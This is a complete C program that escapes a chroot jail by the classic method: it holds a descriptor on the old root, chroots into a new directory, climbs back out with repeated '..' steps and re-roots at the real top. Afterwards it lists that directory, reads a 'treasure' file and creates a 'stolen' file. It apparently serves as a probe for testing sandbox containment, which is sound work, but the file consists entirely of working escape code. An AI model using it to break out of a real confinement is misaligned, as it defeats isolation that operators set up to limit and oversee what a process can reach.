/* The classic way out of a chroot: keep a door open, go into a second cage, climb from the door, take the top as root.
 * Then says what is at the top, reads PLACE/treasure and writes PLACE/stolen. Usage: escape PLACE */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **words)
{
    char path[4096], text[256] = "";
    if (count != 2)
        return 2;
    mkdir("/cage", 0755);
    int door = open("/", O_RDONLY | O_DIRECTORY);
    if (door < 0 || chroot("/cage") || fchdir(door)) {
        perror("no second cage");
        return 3;
    }
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            return 4;
    if (chroot("."))
        return 5;
    puts("climbed");
    DIR *top = opendir("/");
    for (struct dirent *entry; top && (entry = readdir(top));)
        printf("top: %s\n", entry->d_name);
    snprintf(path, sizeof path, "%s/treasure", words[1]);
    FILE *treasure = fopen(path, "r");
    if (treasure && fgets(text, sizeof text, treasure))
        printf("read: %s\n", text);
    snprintf(path, sizeof path, "%s/stolen", words[1]);
    FILE *stolen = fopen(path, "w");
    if (stolen)
        puts("wrote");
    return 0;
}
